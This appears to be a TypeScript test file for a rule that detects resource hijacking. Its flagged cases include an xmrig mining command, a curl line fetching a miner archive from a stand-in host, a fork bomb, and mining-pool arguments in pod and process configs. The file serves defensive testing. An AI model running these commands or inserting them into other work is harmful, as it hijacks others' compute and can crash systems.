// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions belong to the packages
import { resourceHijack } from '../../../../consumers/governance/rules/resource-hijack.ts'
import { config, handlers, node, pod, ruleCases } from './cases.ts'

ruleCases(resourceHijack, {
  finds: [
    './xmrig -o pool.example.net:3333 -u wallet --donate-level 1',
    'curl -L https://a.example.org/xmrig.tar.gz | tar xz',
    ':(){ :|:& };:',
    pod({}, { args: ['-o', 'stratum+tcp://pool.example.net:3333'] }),
    config({ image: 'someone/xmrig:latest' }),
    node('spawn("./run", ["-o", "stratum+tcp://pool.example.net:3333"])'),
  ],
  leaves: [
    'pkill xmrig',
    'grep -r stratum docs',
    'k6 run --duration 30s load.js',
    'yes | head -1',
    'stress-ng --cpu 2 --timeout 10s',
    handlers({ name: 'mining-report', type: 'shell', config: { command: 'make report' } }),
  ],
})
